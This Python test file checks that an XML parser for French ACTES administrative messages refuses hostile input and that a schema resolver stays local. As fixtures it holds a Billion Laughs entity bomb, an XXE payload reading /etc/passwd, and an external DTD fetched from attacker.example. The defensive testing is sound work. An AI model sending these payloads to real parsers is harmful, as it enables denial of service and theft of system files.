"""Safe parsing (no DTD, entities or network) and schema loading."""

import pytest

from territoires.interop import actes as a
from territoires.interop.actes.errors import ActesXMLError
from territoires.interop.xmlschema import LocalOnlyResolver

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<actes:ARAnnulation xmlns:actes="http://www.interieur.gouv.fr/ACTES#v1.1-20040216"
  actes:IDActe="&lol9;" actes:DateReception="2017-07-19"/>
"""

XXE = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE actes:Annulation [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<actes:Annulation xmlns:actes="http://www.interieur.gouv.fr/ACTES#v1.1-20040216">&xxe;</actes:Annulation>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE actes:Annulation SYSTEM "http://attacker.example/evil.dtd">
<actes:Annulation xmlns:actes="http://www.interieur.gouv.fr/ACTES#v1.1-20040216"/>
"""


@pytest.mark.parametrize("hostile", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["billion-laughs", "xxe", "dtd"])
def test_hostile_documents_are_refused(hostile):
    with pytest.raises(ActesXMLError, match="DOCTYPE"):
        a.parse_xml(hostile)
    with pytest.raises(ActesXMLError):
        a.parse_message(hostile, "x.xml")


def test_undeclared_entity_is_malformed():
    with pytest.raises(ActesXMLError, match="mal formé"):
        a.parse_xml(b"<a>&xxe;</a>")


def test_size_limit_and_empty_input():
    with pytest.raises(ActesXMLError, match="trop volumineux"):
        a.parse_xml(b"<a/>" + b" " * 100, max_bytes=50)
    with pytest.raises(ActesXMLError, match="vide"):
        a.parse_xml(b"  ")


def test_schema_is_cached_per_folder(reference_dir):
    assert a.load_schema(reference_dir) is a.load_schema(reference_dir)
    # The parent folder (settings.REFERENCE_DATA_DIR itself) is accepted too.
    assert a.load_schema(reference_dir.parent) is a.load_schema(reference_dir)


def test_missing_schema_folder(tmp_path):
    with pytest.raises(FileNotFoundError, match="Schéma ACTES introuvable"):
        a.load_schema(tmp_path)


def test_imports_resolve_only_inside_the_schema_folder(reference_dir, tmp_path):
    """A schema importing from elsewhere gets an empty document, never the network or other files."""
    resolver = LocalOnlyResolver(reference_dir.resolve())
    seen = []

    class Context:
        pass

    resolver.resolve_filename = lambda path, context: seen.append(("file", path))
    resolver.resolve_string = lambda text, context: seen.append(("refused", text))
    resolver.resolve(str(reference_dir / "siret.xsd"), None, Context())
    resolver.resolve("http://xml.insee.fr/schema/siret.xsd", None, Context())
    resolver.resolve("/etc/passwd", None, Context())
    resolver.resolve(str(reference_dir / ".." / "marches" / "x.xsd"), None, Context())
    assert seen[0] == ("file", str((reference_dir / "siret.xsd").resolve()))
    assert [kind for kind, _ in seen[1:]] == ["refused", "refused", "refused"]


def test_schema_errors_on_invalid_message(reference_dir):
    xml = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<actes:Annulation xmlns:actes="http://www.interieur.gouv.fr/ACTES#v1.1-20040216" actes:IDActe="bad"/>"""
    errors = a.schema_errors(xml, reference_dir)
    assert len(errors) == 1 and errors[0].startswith("ligne 2 : ")
    with pytest.raises(a.ActesSchemaError) as caught:
        a.validate(xml, reference_dir)
    assert caught.value.errors == errors
